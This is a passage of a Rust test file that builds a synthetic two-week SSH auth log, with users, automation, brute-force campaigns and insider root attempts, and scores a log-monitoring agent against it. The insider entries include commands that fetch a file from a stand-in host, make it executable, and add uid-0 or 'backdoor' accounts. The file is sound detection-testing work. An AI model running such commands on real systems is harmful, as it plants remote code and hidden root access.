//! A fresh agent on a busy SSH host, judged against the truth: a two-week
//! auth log written here (its own users, hosts, schedules, automation and
//! attack campaigns, seeded; nothing taken from the training simulator in
//! `models/`), read by the real `bfp-agent scan` and by `bfp-agent run`
//! following the file from an empty state directory. Day one is under
//! attack. Measured per day: legitimate sessions and addresses flagged,
//! compromised logins and privilege-escalation sessions flagged, each attack
//! class caught; the bars are those of the first-day-trust issue.
//!
//! Line forms are those of Debian 12 (`/var/log/auth.log`: OpenSSH 9.2,
//! PAM 1.5 `user(uid=N)`, systemd-logind, sudo 1.9, util-linux su, dropbear
//! 2022 on a second port) and RHEL 9 (`/var/log/secure`: no logind lines,
//! pam_unix's first failure plus `PAM N more authentication failures`), as
//! in `shared/data/real` (elastic/auth.log, exposed-rhel/secure) and
//! `logs/testdata/unseen` (debian-sudo-su.log, qiita-sudo.log,
//! traverxec-journal.log, fail2ban-dropbear.log, openwrt-logread.log,
//! fail2ban-sshd.log, sshd-session.log).

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::Path;

use bfp_e2e::agent::{agent, append, consumed, json_lines, temp_dir, wait_until, RunningAgent};
use serde_json::Value;

const DAYS: u64 = 14;
const DAY: u64 = 86_400;
const HOUR: u64 = 3_600;
const MIN: u64 = 60;

/// splitmix64: a seeded generator of our own (no dependency, stable forever).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }
    fn chance(&mut self, p: f64) -> bool {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }
    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len() as u64) as usize]
    }
    fn port(&mut self) -> u64 {
        self.range(32_768, 60_999)
    }
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Flavor {
    /// Debian 12's /var/log/auth.log.
    Debian,
    /// RHEL 9's /var/log/secure.
    Rhel,
}

/// What a session truly is.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Truth {
    Legitimate,
    /// An insider's session with a refused privilege escalation.
    Escalation,
    /// An attacker's login with a guessed password.
    Compromised,
}

/// What happens inside a session, at an offset from its start.
#[derive(Clone, Debug)]
enum Act {
    Sudo(&'static str),
    NotInSudoers(&'static str),
    NotAllowed(&'static str),
    /// Wrong password N times for this command.
    SudoBadPassword(&'static str, u32),
    /// `su -` with a wrong password.
    SuFailed,
}

#[derive(Clone, Debug)]
struct SessionSpec {
    user: &'static str,
    uid: u32,
    ip: String,
    start: u64,
    duration: u64,
    publickey: bool,
    /// Wrong passwords typed before getting in (same connection).
    typos: u32,
    /// Interactive (a terminal); automation runs commands without one.
    tty: bool,
    acts: Vec<(u64, Act)>,
    truth: Truth,
}

/// A judged unit of truth: one session, by its sshd pid.
#[derive(Clone, Debug)]
struct SessionTruth {
    user: &'static str,
    ip: String,
    day: u64,
    truth: Truth,
}

const CLASSES: [&str; 6] = [
    "fast brute force",
    "slow brute force",
    "distributed brute force",
    "dropbear brute force",
    "user enumeration",
    "scanner",
];

struct Log {
    flavor: Flavor,
    host: &'static str,
    lines: Vec<(u64, u64, String)>,
    seq: u64,
    pid: u32,
    logind_session: u32,
    sessions: BTreeMap<u32, SessionTruth>,
    legit_ips: BTreeSet<String>,
    attack_ips: BTreeMap<&'static str, BTreeSet<String>>,
}

/// The generated log and its truth.
struct Generated {
    text: String,
    sessions: BTreeMap<u32, SessionTruth>,
    legit_ips: BTreeSet<String>,
    attack_ips: BTreeMap<&'static str, BTreeSet<String>>,
}

impl Log {
    fn new(flavor: Flavor) -> Log {
        let host = match flavor {
            Flavor::Debian => "files-02",
            Flavor::Rhel => "erp-db1",
        };
        Log {
            flavor,
            host,
            lines: Vec::new(),
            seq: 0,
            pid: 2_000,
            logind_session: 1,
            sessions: BTreeMap::new(),
            legit_ips: BTreeSet::new(),
            attack_ips: BTreeMap::new(),
        }
    }

    fn pid(&mut self) -> u32 {
        self.pid += 1 + (self.pid % 7);
        self.pid
    }

    /// A line at `t` seconds after day 0 (Monday 2 November) 00:00.
    fn line(&mut self, t: u64, program: &str, msg: String) {
        let day = 2 + t / DAY;
        let s = t % DAY;
        let stamp = format!("Nov {day:>2} {:02}:{:02}:{:02}", s / HOUR, s % HOUR / MIN, s % MIN);
        self.seq += 1;
        self.lines.push((t, self.seq, format!("{stamp} {} {program}: {msg}", self.host)));
    }

    fn sshd(&mut self, t: u64, pid: u32, msg: String) {
        self.line(t, &format!("sshd[{pid}]"), msg);
    }

    /// sudo pads the user name to eight columns.
    fn sudo(&mut self, t: u64, user: &str, msg: String) {
        self.line(t, "sudo", format!("{user:>8} : {msg}"));
    }

    /// One SSH session with everything it writes. Returns its pid.
    fn session(&mut self, rng: &mut Rng, s: &SessionSpec, tty: Option<u32>) -> u32 {
        let pid = self.pid();
        let port = rng.port();
        let ip = s.ip.as_str();
        let user = s.user;
        let mut t = s.start;
        for k in 0..s.typos {
            if k == 0 || self.flavor == Flavor::Debian {
                self.sshd(
                    t,
                    pid,
                    format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}"),
                );
            }
            t += rng.range(2, 3);
            self.sshd(t, pid, format!("Failed password for {user} from {ip} port {port} ssh2"));
            t += rng.range(3, 8);
        }
        if s.publickey {
            let key = format!("SHA256:{:016x}{:016x}", s.uid as u64 * 0x9E37_79B9, s.uid as u64 ^ 0x5DEECE66D);
            self.sshd(t, pid, format!("Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 {key}"));
        } else {
            self.sshd(t, pid, format!("Accepted password for {user} from {ip} port {port} ssh2"));
        }
        self.sshd(t, pid, format!("pam_unix(sshd:session): session opened for user {user}(uid={}) by (uid=0)", s.uid));
        let logind = self.logind_session;
        self.logind_session += 1;
        if self.flavor == Flavor::Debian {
            self.line(t, "systemd-logind[402]", format!("New session {logind} of user {user}."));
        }
        let tty_name = tty.map_or("unknown".to_string(), |n| format!("pts/{n}"));
        for (offset, act) in &s.acts {
            let at = t + offset;
            self.act(rng, at, user, s.uid, &tty_name, act);
        }
        let end = t + s.duration;
        self.sshd(end, pid, format!("Received disconnect from {ip} port {port}:11: disconnected by user"));
        self.sshd(end, pid, format!("Disconnected from user {user} {ip} port {port}"));
        self.sshd(end, pid, format!("pam_unix(sshd:session): session closed for user {user}"));
        if self.flavor == Flavor::Debian {
            self.line(
                end,
                "systemd-logind[402]",
                format!("Session {logind} logged out. Waiting for processes to exit."),
            );
            self.line(end, "systemd-logind[402]", format!("Removed session {logind}."));
        }
        let day = s.start / DAY;
        self.sessions.insert(pid, SessionTruth { user, ip: s.ip.clone(), day, truth: s.truth });
        if s.truth == Truth::Legitimate {
            self.legit_ips.insert(s.ip.clone());
        }
        pid
    }

    fn act(&mut self, rng: &mut Rng, at: u64, user: &str, uid: u32, tty: &str, act: &Act) {
        let pwd = format!("PWD=/home/{user}");
        let dev = if tty == "unknown" { "unknown".to_string() } else { format!("/dev/{tty}") };
        match act {
            Act::Sudo(cmd) => {
                self.sudo(at, user, format!("TTY={tty} ; {pwd} ; USER=root ; COMMAND={cmd}"));
                self.line(
                    at,
                    "sudo",
                    format!("pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})"),
                );
                self.line(at + rng.range(1, 40), "sudo", "pam_unix(sudo:session): session closed for user root".into());
            }
            Act::NotInSudoers(cmd) => {
                self.line(
                    at,
                    "sudo",
                    format!("pam_unix(sudo:auth): authentication failure; logname={user} uid={uid} euid=0 tty={dev} ruser={user} rhost=  user={user}"),
                );
                self.sudo(at + 6, user, format!("user NOT in sudoers ; TTY={tty} ; {pwd} ; USER=root ; COMMAND={cmd}"));
            }
            Act::NotAllowed(cmd) => {
                self.sudo(at, user, format!("command not allowed ; TTY={tty} ; {pwd} ; USER=root ; COMMAND={cmd}"));
            }
            Act::SudoBadPassword(cmd, n) => {
                self.line(
                    at,
                    "sudo",
                    format!("pam_unix(sudo:auth): authentication failure; logname={user} uid={uid} euid=0 tty={dev} ruser={user} rhost=  user={user}"),
                );
                let plural = if *n == 1 { "" } else { "s" };
                self.sudo(
                    at + 4 * u64::from(*n) + 3,
                    user,
                    format!("{n} incorrect password attempt{plural} ; TTY={tty} ; {pwd} ; USER=root ; COMMAND={cmd}"),
                );
            }
            Act::SuFailed => {
                let pid = self.pid();
                self.line(
                    at,
                    &format!("su[{pid}]"),
                    format!("pam_unix(su-l:auth): authentication failure; logname={user} uid={uid} euid=0 tty={tty} ruser={user} rhost=  user=root"),
                );
                self.line(at + 2, &format!("su[{pid}]"), format!("FAILED SU (to root) {user} on {tty}"));
            }
        }
    }

    /// One sshd connection failing `tries` passwords for `user` (an
    /// account of the host or not), with the lines OpenSSH and pam_unix write around them.
    fn failing_connection(&mut self, rng: &mut Rng, t: u64, ip: &str, user: &str, tries: u32) -> u64 {
        let invalid = !account_exists(user);
        let pid = self.pid();
        let port = rng.port();
        let mut t = t;
        if invalid {
            self.sshd(t, pid, format!("Invalid user {user} from {ip} port {port}"));
        }
        for k in 0..tries {
            if k == 0 || self.flavor == Flavor::Debian {
                if invalid {
                    self.sshd(t, pid, "pam_unix(sshd:auth): check pass; user unknown".into());
                    self.sshd(
                        t,
                        pid,
                        format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}"),
                    );
                } else {
                    self.sshd(
                        t,
                        pid,
                        format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}"),
                    );
                }
            }
            t += rng.range(1, 3);
            let invalid_word = if invalid { "invalid user " } else { "" };
            self.sshd(t, pid, format!("Failed password for {invalid_word}{user} from {ip} port {port} ssh2"));
        }
        let who = if invalid { format!("invalid user {user}") } else { format!("authenticating user {user}") };
        if tries >= 6 {
            let invalid_word = if invalid { "invalid user " } else { "" };
            self.sshd(
                t,
                pid,
                format!("error: maximum authentication attempts exceeded for {invalid_word}{user} from {ip} port {port} ssh2 [preauth]"),
            );
            self.sshd(
                t,
                pid,
                format!("Disconnecting {who} {ip} port {port}: Too many authentication failures [preauth]"),
            );
        } else {
            t += 1;
            self.sshd(t, pid, format!("Connection closed by {who} {ip} port {port} [preauth]"));
        }
        if self.flavor == Flavor::Rhel && tries > 1 {
            let user_part = if invalid { String::new() } else { format!("  user={user}") };
            self.sshd(
                t,
                pid,
                format!(
                    "PAM {} more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}{user_part}",
                    tries - 1
                ),
            );
            if tries > 3 {
                self.sshd(t, pid, format!("PAM service(sshd) ignoring max retries; {tries} > 3"));
            }
        }
        t
    }

    /// A login that only probes: no authentication at all.
    fn probe(&mut self, rng: &mut Rng, t: u64, ip: &str) {
        let pid = self.pid();
        let port = rng.port();
        match rng.below(3) {
            0 => self.sshd(t, pid, format!("Connection closed by {ip} port {port} [preauth]")),
            1 => self.sshd(t, pid, format!("banner exchange: Connection from {ip} port {port}: invalid format")),
            _ => self.sshd(
                t,
                pid,
                format!(
                    "Unable to negotiate with {ip} port {port}: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1,diffie-hellman-group14-sha1 [preauth]"
                ),
            ),
        }
    }

    /// dropbear on the second port: one connection, `tries` bad passwords.
    fn dropbear(&mut self, rng: &mut Rng, t: u64, ip: &str, user: &str, tries: u32) {
        let pid = self.pid();
        let port = rng.port();
        let prog = format!("dropbear[{pid}]");
        self.line(t, &prog, format!("Child connection from {ip}:{port}"));
        let mut t = t;
        for _ in 0..tries {
            t += rng.range(1, 4);
            self.line(t, &prog, format!("Bad password attempt for '{user}' from {ip}:{port}"));
        }
        self.line(
            t + 1,
            &prog,
            format!("Exit before auth from <{ip}:{port}>: (user '{user}', {tries} fails): Max auth tries reached - user '{user}'"),
        );
    }

    fn attack_ip(&mut self, class: &'static str, ip: &str) {
        self.attack_ips.entry(class).or_default().insert(ip.to_string());
    }

    fn finish(mut self) -> Generated {
        self.lines.sort_by_key(|(t, seq, _)| (*t, *seq));
        let mut text = String::new();
        for (_, _, line) in &self.lines {
            text.push_str(line);
            text.push('\n');
        }
        Generated { text, sessions: self.sessions, legit_ips: self.legit_ips, attack_ips: self.attack_ips }
    }
}

/// The host's accounts (the others are `Invalid user` to sshd).
fn account_exists(user: &str) -> bool {
    matches!(
        user,
        "root"
            | "admin"
            | "support"
            | "oracle"
            | "backup"
            | "deploy"
            | "nagios"
            | "rkowalski"
            | "jnovak"
            | "priya"
            | "amorales"
            | "lchen"
            | "okafor"
            | "tmarsh"
            | "kbaker"
    )
}

/// Day `d` is a weekday (day 0 is a Monday).
fn weekday(d: u64) -> bool {
    d % 7 < 5
}

const INVALID_NAMES: [&str; 40] = [
    "admin",
    "test",
    "user",
    "oracle",
    "postgres",
    "ubuntu",
    "git",
    "ftpuser",
    "guest",
    "pi",
    "hadoop",
    "mysql",
    "nagios",
    "jenkins",
    "tomcat",
    "support",
    "deployer",
    "minecraft",
    "steam",
    "teamspeak",
    "vagrant",
    "ansible",
    "demo",
    "www",
    "webadmin",
    "student",
    "backup1",
    "operator",
    "ts3",
    "odoo",
    "elastic",
    "kafka",
    "zabbix",
    "es",
    "dev",
    "ubnt",
    "usuario",
    "admin1",
    "test2",
    "user1",
];

const OFFICE_CMDS: [&str; 8] = [
    "/usr/bin/apt update",
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/journalctl -u nginx --since today",
    "/usr/bin/systemctl status smbd",
    "/usr/bin/apt upgrade -y",
    "/usr/bin/tail -n 200 /var/log/syslog",
    "/usr/sbin/exportfs -ra",
    "/usr/bin/du -sh /srv/share",
];

/// Generates the two weeks. All sessions end before the log does.
fn generate(flavor: Flavor, seed: u64) -> Generated {
    let mut rng = Rng(seed);
    let mut log = Log::new(flavor);
    let mut specs: Vec<SessionSpec> = Vec::new();
    let human = |user, uid, ip: String, start, duration, publickey, typos, acts, truth| SessionSpec {
        user,
        uid,
        ip,
        start,
        duration,
        publickey,
        typos,
        tty: true,
        acts,
        truth,
    };

    // --- Legitimate people, each with habits of their own.
    for d in 0..DAYS {
        // rkowalski, the sysadmin: office on weekdays, a root shell most days,
        // sometimes from home in the evening.
        if weekday(d) {
            for k in 0..rng.range(2, 4) {
                let start = d * DAY + 8 * HOUR + k * 3 * HOUR + rng.below(90 * MIN);
                let mut acts = vec![(rng.range(20, 300), Act::Sudo(rng.pick(&OFFICE_CMDS)))];
                if k == 0 && rng.chance(0.7) {
                    acts.push((rng.range(400, 900), Act::Sudo("/bin/bash")));
                }
                specs.push(human(
                    "rkowalski",
                    1001,
                    "10.20.1.15".into(),
                    start,
                    rng.range(10 * MIN, 80 * MIN),
                    true,
                    0,
                    acts,
                    Truth::Legitimate,
                ));
            }
        }
        if rng.chance(0.35) {
            let start = d * DAY + 20 * HOUR + rng.below(2 * HOUR);
            specs.push(human(
                "rkowalski",
                1001,
                "81.2.69.160".into(),
                start,
                rng.range(5 * MIN, 30 * MIN),
                true,
                0,
                vec![(60, Act::Sudo("/usr/bin/systemctl status smbd"))],
                Truth::Legitimate,
            ));
        }
        // jnovak, developer, passwords (and typos); two terminals at once.
        if weekday(d) {
            let start = d * DAY + 9 * HOUR + rng.below(60 * MIN);
            let typos = u32::from(rng.chance(0.08));
            specs.push(human(
                "jnovak",
                1002,
                "10.20.1.23".into(),
                start,
                rng.range(3 * HOUR, 5 * HOUR),
                false,
                typos,
                vec![(rng.range(60, 3600), Act::Sudo("/usr/bin/systemctl restart php8.2-fpm"))],
                Truth::Legitimate,
            ));
            if rng.chance(0.6) {
                // A second terminal while the first is open.
                let second = start + rng.range(20 * MIN, 90 * MIN);
                specs.push(human(
                    "jnovak",
                    1002,
                    "10.20.1.23".into(),
                    second,
                    rng.range(10 * MIN, 60 * MIN),
                    false,
                    0,
                    vec![(rng.range(30, 500), Act::Sudo("/usr/bin/tail -f /var/log/nginx/error.log"))],
                    Truth::Legitimate,
                ));
            }
            let afternoon = d * DAY + 14 * HOUR + rng.below(60 * MIN);
            specs.push(human(
                "jnovak",
                1002,
                "10.20.1.23".into(),
                afternoon,
                rng.range(HOUR, 3 * HOUR),
                false,
                u32::from(rng.chance(0.05)),
                vec![],
                Truth::Legitimate,
            ));
        } else if rng.chance(0.5) {
            let start = d * DAY + 21 * HOUR + rng.below(60 * MIN);
            specs.push(human(
                "jnovak",
                1002,
                "82.117.4.9".into(),
                start,
                rng.range(10 * MIN, 40 * MIN),
                false,
                0,
                vec![],
                Truth::Legitimate,
            ));
        }
        // priya, the travelling admin: a new network every two days, at
        // the hours of wherever she is.
        let networks = [
            "93.184.220.41",
            "185.199.110.7",
            "62.210.18.40",
            "203.0.178.91",
            "151.101.65.140",
            "45.60.12.200",
            "194.9.94.85",
        ];
        let net = networks[(d / 2) as usize % networks.len()].to_string();
        let shift = (d / 2) * 3 % 10;
        for _ in 0..rng.range(1, 2) {
            let start = d * DAY + (7 + shift) * HOUR + rng.below(4 * HOUR);
            specs.push(human(
                "priya",
                1003,
                net.clone(),
                start,
                rng.range(5 * MIN, 45 * MIN),
                true,
                0,
                vec![(rng.range(30, 200), Act::Sudo(rng.pick(&OFFICE_CMDS)))],
                Truth::Legitimate,
            ));
        }
        // amorales, DBA: office, a sudo to postgres.
        if weekday(d) {
            for k in 0..2 {
                let start = d * DAY + 10 * HOUR + k * 4 * HOUR + rng.below(HOUR);
                specs.push(human(
                    "amorales",
                    1004,
                    "10.20.1.31".into(),
                    start,
                    rng.range(15 * MIN, 90 * MIN),
                    false,
                    u32::from(rng.chance(0.04)),
                    vec![(rng.range(60, 600), Act::Sudo("/usr/bin/psql -U postgres -c vacuum analyze"))],
                    Truth::Legitimate,
                ));
            }
        }
        // lchen, an intern from day 4.
        if d >= 4 && weekday(d) {
            let start = d * DAY + 9 * HOUR + 30 * MIN + rng.below(2 * HOUR);
            specs.push(human(
                "lchen",
                1005,
                "10.20.1.44".into(),
                start,
                rng.range(30 * MIN, 3 * HOUR),
                false,
                u32::from(rng.chance(0.1)),
                vec![],
                Truth::Legitimate,
            ));
        }
        // okafor, a contractor from day 9, from home, afternoons.
        if d >= 9 {
            let start = d * DAY + 13 * HOUR + rng.below(4 * HOUR);
            specs.push(human(
                "okafor",
                1006,
                "102.89.34.17".into(),
                start,
                rng.range(20 * MIN, 2 * HOUR),
                true,
                0,
                vec![(rng.range(60, 900), Act::Sudo("/usr/bin/systemctl reload nginx"))],
                Truth::Legitimate,
            ));
        }
        // Insiders: ordinary sessions on ordinary days...
        if weekday(d) {
            let start = d * DAY + 9 * HOUR + rng.below(3 * HOUR);
            specs.push(human(
                "tmarsh",
                1007,
                "10.20.1.52".into(),
                start,
                rng.range(20 * MIN, 2 * HOUR),
                false,
                0,
                vec![],
                Truth::Legitimate,
            ));
            let start = d * DAY + 11 * HOUR + rng.below(3 * HOUR);
            specs.push(human(
                "kbaker",
                1008,
                "10.20.1.57".into(),
                start,
                rng.range(20 * MIN, 2 * HOUR),
                true,
                0,
                vec![(rng.range(60, 900), Act::Sudo("/usr/bin/systemctl restart erp-app"))],
                Truth::Legitimate,
            ));
        }
    }
    // ...and sessions where they try to become root.
    let escalations: [(u64, &'static str, u32, &str, Vec<Act>); 16] = [
        (0, "tmarsh", 1007, "10.20.1.52", vec![Act::NotInSudoers("/usr/bin/su -")]),
        (0, "kbaker", 1008, "10.20.1.57", vec![Act::NotAllowed("/bin/bash")]),
        (1, "tmarsh", 1007, "10.20.1.52", vec![Act::NotInSudoers("/usr/bin/passwd root")]),
        (2, "kbaker", 1008, "10.20.1.57", vec![Act::SudoBadPassword("/usr/sbin/useradd -m -G sudo helpdesk", 3)]),
        (2, "tmarsh", 1007, "10.20.1.52", vec![Act::SuFailed]),
        (3, "kbaker", 1008, "10.20.1.57", vec![Act::NotAllowed("/usr/bin/wget http://198.18.7.3/k -O /tmp/.x")]),
        (4, "tmarsh", 1007, "10.20.1.52", vec![Act::NotInSudoers("/usr/bin/chmod +x /tmp/.x")]),
        (4, "kbaker", 1008, "10.20.1.57", vec![Act::NotAllowed("/usr/bin/passwd root")]),
        (7, "tmarsh", 1007, "10.20.1.52", vec![Act::NotInSudoers("/bin/bash")]),
        (7, "kbaker", 1008, "10.20.1.57", vec![Act::NotAllowed("/usr/sbin/useradd -o -u 0 svc")]),
        (
            8,
            "tmarsh",
            1007,
            "10.20.1.52",
            vec![
                Act::NotInSudoers("/usr/bin/wget http://198.18.7.3/k -O /tmp/.x"),
                Act::NotInSudoers("/usr/bin/chmod +x /tmp/.x"),
            ],
        ),
        (9, "kbaker", 1008, "10.20.1.57", vec![Act::SudoBadPassword("/usr/bin/su -", 3)]),
        (10, "tmarsh", 1007, "10.20.1.52", vec![Act::SuFailed, Act::NotInSudoers("/usr/bin/su -")]),
        (11, "kbaker", 1008, "10.20.1.57", vec![Act::NotAllowed("/usr/bin/chmod +x /tmp/.x")]),
        (11, "tmarsh", 1007, "10.20.1.52", vec![Act::NotInSudoers("/usr/sbin/useradd backdoor")]),
        (12, "kbaker", 1008, "10.20.1.57", vec![Act::SudoBadPassword("/bin/bash", 2), Act::NotAllowed("/bin/bash")]),
    ];
    for (d, user, uid, ip, acts) in escalations {
        let start = d * DAY + 15 * HOUR + rng.below(2 * HOUR);
        let mut timed = Vec::new();
        let mut at = rng.range(60, 400);
        for act in acts {
            timed.push((at, act));
            at += rng.range(20, 120);
        }
        let publickey = user == "kbaker";
        specs.push(human(
            user,
            uid,
            ip.into(),
            start,
            at + rng.range(5 * MIN, 20 * MIN),
            publickey,
            0,
            timed,
            Truth::Escalation,
        ));
    }
    // Automation: keys, fixed schedules, no terminal.
    let automation = |user, uid, ip: &str, start, duration, acts| SessionSpec {
        user,
        uid,
        ip: ip.into(),
        start,
        duration,
        publickey: true,
        typos: 0,
        tty: false,
        acts,
        truth: Truth::Legitimate,
    };
    let mut t = 3 * MIN;
    while t < DAYS * DAY - HOUR {
        // nagios every 5 minutes, no commands.
        specs.push(automation("nagios", 998, "10.20.0.9", t + rng.below(20), rng.range(1, 3), vec![]));
        t += 5 * MIN;
    }
    let mut t = 7 * MIN;
    let mut n = 0;
    while t < DAYS * DAY - HOUR {
        // backup every 30 minutes, a database dump through sudo every fourth.
        let acts = if n % 4 == 0 { vec![(2, Act::Sudo("/usr/local/sbin/dump-shares --incremental"))] } else { vec![] };
        specs.push(automation("backup", 997, "10.20.0.5", t, rng.range(20, 200), acts));
        t += 30 * MIN;
        n += 1;
    }
    let mut t = 11 * MIN;
    while t < DAYS * DAY - HOUR {
        // deploy every 10 minutes; a restart on some.
        let acts = if rng.chance(0.05) { vec![(3, Act::Sudo("/usr/bin/systemctl restart erp-app"))] } else { vec![] };
        specs.push(automation("deploy", 996, "10.20.0.8", t, rng.range(4, 30), acts));
        t += 10 * MIN;
    }

    // Sessions in time order: terminals are handed out as they free up.
    specs.sort_by_key(|s| s.start);
    let mut busy: Vec<(u64, u32)> = Vec::new();
    for s in &specs {
        busy.retain(|(end, _)| *end > s.start);
        let tty = if s.tty {
            let n = (0..).find(|n| busy.iter().all(|(_, b)| b != n)).unwrap();
            busy.push((s.start + s.duration + 60, n));
            Some(n)
        } else {
            None
        };
        log.session(&mut rng, s, tty);
    }

    // --- Attacks. Day one is under attack.
    // Fast brute force: one address, ~240 passwords in 25 minutes, then in
    // (the compromised `support` account); another on day 8.
    for (d, ip, users, then_in) in [
        (0u64, "45.134.26.117", &["root", "admin", "support"][..], Some("support")),
        (8, "193.32.162.44", &["root", "ubuntu"][..], None),
    ] {
        log.attack_ip("fast brute force", ip);
        let mut t = d * DAY + 2 * HOUR + 10 * MIN + rng.below(HOUR);
        for user in users {
            for _ in 0..14 {
                t = log.failing_connection(&mut rng, t, ip, user, 6) + rng.range(1, 4);
            }
        }
        if let Some(user) = then_in {
            let spec = SessionSpec {
                user,
                uid: 1010,
                ip: ip.into(),
                start: t + 20,
                duration: rng.range(5 * MIN, 15 * MIN),
                publickey: false,
                typos: 0,
                tty: true,
                acts: vec![],
                truth: Truth::Compromised,
            };
            log.session(&mut rng, &spec, Some(9));
        }
    }
    // Slow brute force: one attempt every 20-50 minutes for days; the one
    // of days 7-10 guesses `admin`.
    for (from, to, ip, then_in) in [(0u64, 3u64, "218.92.0.112", None), (7, 10, "61.177.172.13", Some("admin"))] {
        log.attack_ip("slow brute force", ip);
        let mut t = from * DAY + rng.below(2 * HOUR);
        while t < to * DAY {
            let user = rng.pick(&["root", "admin", "root", "ubuntu"]);
            t = log.failing_connection(&mut rng, t, ip, user, 1) + rng.range(20 * MIN, 50 * MIN);
        }
        if let Some(user) = then_in {
            let spec = SessionSpec {
                user,
                uid: 1011,
                ip: ip.into(),
                start: t,
                duration: rng.range(2 * MIN, 10 * MIN),
                publickey: false,
                typos: 1,
                tty: true,
                acts: vec![],
                truth: Truth::Compromised,
            };
            log.session(&mut rng, &spec, Some(8));
        }
    }
    // Distributed brute force: many addresses, two or three passwords each,
    // on day 0 and day 5; one of day 5's gets in as `oracle`.
    for (d, base, count) in [(0u64, 100u64, 60u64), (5, 40, 45)] {
        let mut last = (String::new(), 0);
        for k in 0..count {
            let ip = format!("{}.{}.{}.{}", 150 + k % 50, base + k, 7 * k % 250 + 1, 11 + k);
            log.attack_ip("distributed brute force", &ip);
            let t = d * DAY + 8 * HOUR + rng.below(6 * HOUR);
            let user = rng.pick(&INVALID_NAMES[..12]);
            let user = if rng.chance(0.3) { "root" } else { user };
            let tries = rng.range(2, 3) as u32;
            let end = log.failing_connection(&mut rng, t, &ip, user, tries);
            last = (ip, end);
        }
        if d == 5 {
            let (ip, end) = last;
            log.failing_connection(&mut rng, end + 30, &ip, "oracle", 2);
            let spec = SessionSpec {
                user: "oracle",
                uid: 1012,
                ip,
                start: end + 60,
                duration: rng.range(3 * MIN, 10 * MIN),
                publickey: false,
                typos: 1,
                tty: true,
                acts: vec![],
                truth: Truth::Compromised,
            };
            log.session(&mut rng, &spec, Some(7));
        }
    }
    // dropbear on the second port: root, ten passwords a connection.
    for (d, ip) in [(0u64, "5.188.10.176"), (3, "91.240.118.29"), (11, "5.188.10.176")] {
        log.attack_ip("dropbear brute force", ip);
        let mut t = d * DAY + 5 * HOUR + rng.below(3 * HOUR);
        for _ in 0..rng.range(4, 8) {
            log.dropbear(&mut rng, t, ip, "root", 10);
            t += rng.range(40, 120);
        }
    }
    // User enumeration: one try for each of many names.
    for (d, ip) in [(0u64, "141.98.11.29"), (6, "80.94.95.203"), (12, "141.98.11.29")] {
        log.attack_ip("user enumeration", ip);
        let mut t = d * DAY + 11 * HOUR + rng.below(5 * HOUR);
        for name in INVALID_NAMES {
            t = log.failing_connection(&mut rng, t, ip, name, 1) + rng.range(5, 40);
        }
    }
    // Scanners: banners, key exchange, and go.
    for ip in ["162.142.125.9", "167.94.138.40", "198.235.24.18", "71.6.199.23"] {
        log.attack_ip("scanner", ip);
        for d in 0..DAYS {
            if d == 0 || rng.chance(0.5) {
                for _ in 0..rng.range(2, 6) {
                    let t = d * DAY + rng.below(DAY - 2 * HOUR);
                    log.probe(&mut rng, t, ip);
                }
            }
        }
    }
    // Background the day writes anyway: cron every hour.
    for h in 0..DAYS * 24 {
        let pid = log.pid();
        let t = h * HOUR + 17 * MIN;
        log.line(
            t,
            &format!("CRON[{pid}]"),
            "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)".into(),
        );
        log.line(t + 1, &format!("CRON[{pid}]"), "pam_unix(cron:session): session closed for user root".into());
    }
    // The legitimate addresses are those no attack or insider used.
    let insiders: BTreeSet<String> =
        log.sessions.values().filter(|s| s.truth == Truth::Escalation).map(|s| s.ip.clone()).collect();
    log.legit_ips.retain(|ip| !insiders.contains(ip));
    log.finish()
}

/// What the agent reported, judged against the truth.
#[derive(Default, Debug)]
struct Measured {
    /// Per day: legitimate sessions, and how many were flagged.
    legit: BTreeMap<u64, (usize, usize)>,
    /// Legitimate addresses flagged, with the day and a reason.
    legit_ips_flagged: BTreeMap<String, (u64, String)>,
    compromised: (usize, usize),
    escalation: (usize, usize),
    /// Confidence of each flagged escalation session, in session order.
    escalation_confidence: Vec<f64>,
    /// Per class: addresses, addresses flagged (by their own records or a
    /// campaign naming them).
    classes: BTreeMap<&'static str, (usize, usize)>,
    /// Sessions of the truth the agent never reported.
    missing: Vec<u32>,
    /// Escalation sessions reported Normal, with their reasons.
    escalation_missed: Vec<String>,
    /// Legitimate sessions flagged, the first three of each day with reasons.
    legit_flagged_sample: Vec<String>,
}

impl Measured {
    fn legit_rate(&self, day: u64) -> f64 {
        let (n, f) = self.legit.get(&day).copied().unwrap_or((0, 0));
        f as f64 / n.max(1) as f64
    }
    fn rate_after_first_day(&self) -> (usize, usize) {
        self.legit.iter().filter(|(d, _)| **d > 0).fold((0, 0), |(n, f), (_, (a, b))| (n + a, f + b))
    }
    fn table(&self, title: &str) -> String {
        let mut s = format!("== {title}\nday  legit sessions  flagged  rate\n");
        for (d, (n, f)) in &self.legit {
            s.push_str(&format!("{d:>3}  {n:>14}  {f:>7}  {:.3}%\n", 100.0 * *f as f64 / (*n).max(1) as f64));
        }
        let (n, f) = self.rate_after_first_day();
        s.push_str(&format!("after day 0: {f} of {n} flagged ({:.3}%)\n", 100.0 * f as f64 / n.max(1) as f64));
        s.push_str(&format!("legitimate addresses flagged: {}\n", self.legit_ips_flagged.len()));
